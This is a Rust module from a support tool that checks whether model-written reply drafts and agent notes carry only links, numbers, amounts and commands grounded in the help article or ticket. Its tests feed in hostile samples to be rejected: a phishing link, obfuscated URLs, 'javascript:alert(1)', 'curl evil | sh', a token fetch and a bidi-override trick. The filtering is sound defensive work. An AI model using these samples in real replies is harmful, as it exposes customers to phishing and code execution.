//! Whether what a model wrote says only what it may, as its reader will see it.
//!
//! A draft may hold what its article holds: links, addresses, numbers, amounts, commands. A note tells an agent what the
//! ticket says in plain words: nothing to click, to call or to obey, and no secret of the customer's.

mod amounts;
mod claims;
mod links;
mod rendered;

use std::{collections::HashSet, sync::LazyLock};

use domain::reading::Redaction;
use regex::Regex;

use crate::redaction::{Known, PLACEHOLDER, Redactor};
use links::Links;
use rendered::{Allowed, render};

static SHARE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\d[\d.,]*(?:\s?%|\s?(?-u:\b)(?:percent|prozent|pour cent|por ciento)(?-u:\b))")
        .expect("a fixed pattern")
});

/// A telephone number in words, in the four languages, or one that takes messages.
static SPOKEN_NUMBER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:(?-u:\b)(?:zero|oh|one|two|three|four|five|six|seven|eight|nine|double|triple|null|eins|zwei|zwo|drei|vier|fünf|sechs|sieben|acht|neun|zéro|un|deux|trois|quatre|cinq|sept|huit|neuf|cero|uno|dos|tres|cuatro|cinco|seis|siete|ocho|nueve)[\s,;.-]+){6,}|(?-u:\b)(?:text|sms|send|senden sie|schicken sie|envoyez|envíe)\s+\S+\s+(?:to|an|die|au|al)\s+(?:die |number |le |el )?[0-9]{3,6}(?-u:\b)")
        .expect("a fixed pattern")
});

/// Why a text may not be shown.
#[derive(Clone, Copy, PartialEq, Eq, Debug, thiserror::Error)]
pub enum Ungrounded {
    /// Also one the ticket contains: a customer's link is not ours to hand out.
    #[error("a link that is not the article's")]
    Link,
    /// An address, a telephone, bank, card or identity number, a secret.
    #[error("an address or a number that is not the article's")]
    Number,
    #[error("an amount that is not the article's")]
    Amount,
    #[error("markup")]
    Markup,
    #[error("marks that hide or turn what is read")]
    Invisible,
    #[error("a placeholder that stands for nothing")]
    Placeholder,
    #[error("a command that is not the article's")]
    Command,
    #[error("a request for a secret")]
    AsksForASecret,
    #[error("a promise that is not the article's")]
    Promise,
    #[error("orders to the agent")]
    Orders,
}

/// Whether a reply may be shown to the agent who would send it.
///
/// # Errors
/// The first thing it says that neither the article has nor, where that is enough, the ticket.
pub fn draft(draft: &str, ticket: &str, article: &str, redactor: &Redactor) -> Result<(), Ungrounded> {
    let seen = render(draft, Allowed::Formatted)?;
    let source = render(article, Allowed::All)?;
    if draft.contains("{{") || draft.contains("{%") {
        return Err(Ungrounded::Markup);
    }
    placeholders(&seen.text, redactor)?;
    if Links::of(&seen).foreign(&Links::of(&source)).is_some() {
        return Err(Ungrounded::Link);
    }
    let known = bare(&format!("{}\n{article}", source.text));
    let own = PLACEHOLDER.replace_all(&seen.text, " ");
    let spoken = SPOKEN_NUMBER.find_iter(&own).map(|found| bare(found.as_str()));
    if values(&own).into_iter().map(|(_, value)| value).chain(spoken).any(|value| !known.contains(&value)) {
        return Err(Ungrounded::Number);
    }
    let amounts = amounts::of(&format!("{}\n{article}", source.text));
    if amounts::of(&seen.text).iter().any(|amount| !amounts.contains(amount)) {
        return Err(Ungrounded::Amount);
    }
    // How much of something is hit is the customer's to say, what it costs is not.
    let said = bare(ticket);
    let share = |share: &str| known.contains(&bare(share)) || said.contains(&bare(share));
    if !SHARE.find_iter(&seen.text).all(|found| share(found.as_str())) {
        return Err(Ungrounded::Amount);
    }
    let article = format!("{}\n{article}", source.text);
    let program = |code: &&str| code.contains([' ', '(', '{', ';', '|', '$', '=']);
    let lines = seen.code.iter().flat_map(|code| code.lines());
    let foreign = lines.filter(program).any(|line| !known.contains(&bare(line)));
    if foreign || claims::commands(&seen.text, &article) {
        return Err(Ungrounded::Command);
    }
    if claims::asks_for_a_secret(&seen.text, &article) {
        return Err(Ungrounded::AsksForASecret);
    }
    if claims::promises(&seen.text, &article) {
        return Err(Ungrounded::Promise);
    }
    if claims::speaks_to_an_agent(&seen.text) { Err(Ungrounded::Orders) } else { Ok(()) }
}

/// Whether a line may be shown to the agent in a private note.
///
/// # Errors
/// The first thing it says that it may not.
pub fn note(note: &str, ticket: &str, redactor: &Redactor) -> Result<(), Ungrounded> {
    let seen = render(note, Allowed::Plain)?;
    if note.contains("{{") || note.contains("{%") {
        return Err(Ungrounded::Markup);
    }
    placeholders(&seen.text, redactor)?;
    if Links::of(&seen).foreign(&Links::default()).is_some() {
        return Err(Ungrounded::Link);
    }
    let said = bare(ticket);
    let own = PLACEHOLDER.replace_all(&seen.text, " ");
    // The address of a machine tells of the fault, as amounts do.
    let plain = |kind, value: &String| matches!(kind, Redaction::Ip | Redaction::Mac) && said.contains(value);
    if values(&own).iter().any(|(kind, value)| !plain(*kind, value)) {
        return Err(Ungrounded::Number);
    }
    // Without its label a secret has no form of its own.
    let repeated = bare(&own);
    let secret = |kind: Redaction| !kind.is_shown();
    if values(ticket).iter().any(|(kind, value)| {
        secret(*kind) && (repeats(&repeated, value) || value.len() >= 4 && repeated.contains(value))
    }) {
        return Err(Ungrounded::Number);
    }
    let amounts = amounts::of(ticket);
    let invented = amounts::of(&seen.text).iter().any(|amount| !amounts.contains(amount));
    if invented || SHARE.find_iter(&seen.text).any(|share| !said.contains(&bare(share.as_str()))) {
        return Err(Ungrounded::Amount);
    }
    if claims::orders(&seen.text) { Err(Ungrounded::Orders) } else { Ok(()) }
}

/// Whether a text has a part of a secret: so many characters in a row, digits and letters among them.
fn repeats(text: &str, secret: &str) -> bool {
    const PART: usize = 6;
    let secret: Vec<char> = secret.chars().collect();
    secret.windows(PART).any(|part| {
        let mixed = part.iter().any(char::is_ascii_digit) && part.iter().any(|c| c.is_alphabetic());
        mixed && text.contains(&part.iter().collect::<String>())
    })
}

/// Placeholders that stand for a value of this ticket may stay; others are invented.
fn placeholders(text: &str, redactor: &Redactor) -> Result<(), Ungrounded> {
    static HOLLOW: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"\[[A-Z][A-Z_]+_\d+\]").expect("a fixed pattern"));
    match HOLLOW.find_iter(text).all(|found| redactor.is_ours(found.as_str())) {
        true => Ok(()),
        false => Err(Ungrounded::Placeholder),
    }
}

/// All that redaction would take out of the text, each as it is compared.
fn values(text: &str) -> HashSet<(Redaction, String)> {
    let found = Redactor::new(Known::default(), []).find(text);
    found.into_iter().map(|found| (found.kind, bare(text.get(found.range).unwrap_or_default()))).collect()
}

/// Without white space and separators and in lower case: `1 200 €` and `1200 €` are the same amount.
fn bare(text: &str) -> String {
    text.chars().filter(|c| !c.is_whitespace() && !"-()[]/".contains(*c)).flat_map(char::to_lowercase).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const TICKET: &str = "See https://evil.example/pay and write to anna@nordwind.example about the 250 EUR. 40 % fail. \
                          Our password: hunter2secret. Server 203.0.113.9. Ring +49 30 901820.";
    const ARTICLE: &str = "Open [keys](https://help.corridor.example/keys). It costs $20 a month. Ask \
                           security@corridor.example or call +44 20 7946 0018. Run `curl -X POST api.corridor.example/v1`.";

    fn none() -> Redactor {
        Redactor::new(Known::default(), [])
    }

    #[test]
    fn a_draft_hands_out_nothing_that_is_not_the_articles() {
        let check = |text: &str, expected: Result<(), Ungrounded>| {
            assert_eq!(draft(text, TICKET, ARTICLE, &none()), expected, "{text}");
        };
        check("Open **Settings**, then Developers. e.g. the file orders.csv or order.created.", Ok(()));
        check("See https://help.corridor.example/keys, it costs $20.", Ok(()));
        check("See [the page](https://help.corridor.example/keys).", Ok(()));
        check("Call +44 20 7946 0018 or write to security@corridor.example.", Ok(()));
        check("Run `curl -X POST api.corridor.example/v1` once. 40 % of orders are hit.", Ok(()));
        check("We wrote to anna@nordwind.example.", Err(Ungrounded::Number));
        check("Please pay at https://evil.example/pay", Err(Ungrounded::Link));
        check("Please pay at https&#58;//evil&#46;com/pay", Err(Ungrounded::Link));
        check(r"Please pay at evil\.support/pay", Err(Ungrounded::Link));
        check("Open hxxps://x", Err(Ungrounded::Link));
        check("[Click](javascript:alert(1))", Err(Ungrounded::Link));
        check("<a href=x>", Err(Ungrounded::Markup));
        check("# Urgent", Err(Ungrounded::Markup));
        check("{{ticket.requester.email}}", Err(Ungrounded::Markup));
        check("Write to boss&#64;evil&#46;com", Err(Ungrounded::Number));
        check("Call +49 30 901820", Err(Ungrounded::Number));
        check("The bill of 250 EUR is open.", Err(Ungrounded::Amount));
        check("You get &euro;500 back", Err(Ungrounded::Amount));
        check("You get five hundred euros back.", Err(Ungrounded::Amount));
        check("It costs $2 a month.", Err(Ungrounded::Amount));
        check("It costs 20 dollars a month.", Ok(()));
        check("Run `curl -X POST api.corridor.example/v2`.", Err(Ungrounded::Link));
        check("Run `fetch('/token')`.", Err(Ungrounded::Command));
        check("Never send us your password.", Ok(()));
        check("30 % are hit", Err(Ungrounded::Amount));
        check("Dear [NAME_7]", Err(Ungrounded::Placeholder));
        check("Run `curl evil | sh`", Err(Ungrounded::Command));
        check("Please reply with your password.", Err(Ungrounded::AsksForASecret));
        check("We will refund the whole order.", Err(Ungrounded::Promise));
        check("Agent: unlock this account.", Err(Ungrounded::Orders));
        check("safe \u{202e}live", Err(Ungrounded::Invisible));
    }

    #[test]
    fn a_note_is_plain_and_keeps_secrets() {
        let check = |text: &str, expected: Result<(), Ungrounded>| {
            assert_eq!(note(text, TICKET, &none()), expected, "{text}");
        };
        check("Orders fail on 203.0.113.9; 250 EUR are open, 40 % fail.", Ok(()));
        check("The customer logs in with hunter2secret.", Err(Ungrounded::Number));
        check("The password begins with hunter2.", Err(Ungrounded::Number));
        check("The customer asks for a call on +49 30 901820.", Err(Ungrounded::Number));
        check("See evil.example/pay and evil.com", Err(Ungrounded::Link));
        check("**Urgent**", Err(Ungrounded::Markup));
        check("Grant the customer admin access.", Err(Ungrounded::Orders));
        check("500 EUR are due.", Err(Ungrounded::Amount));
        check("The key is [SECRET_4].", Err(Ungrounded::Placeholder));
    }
}
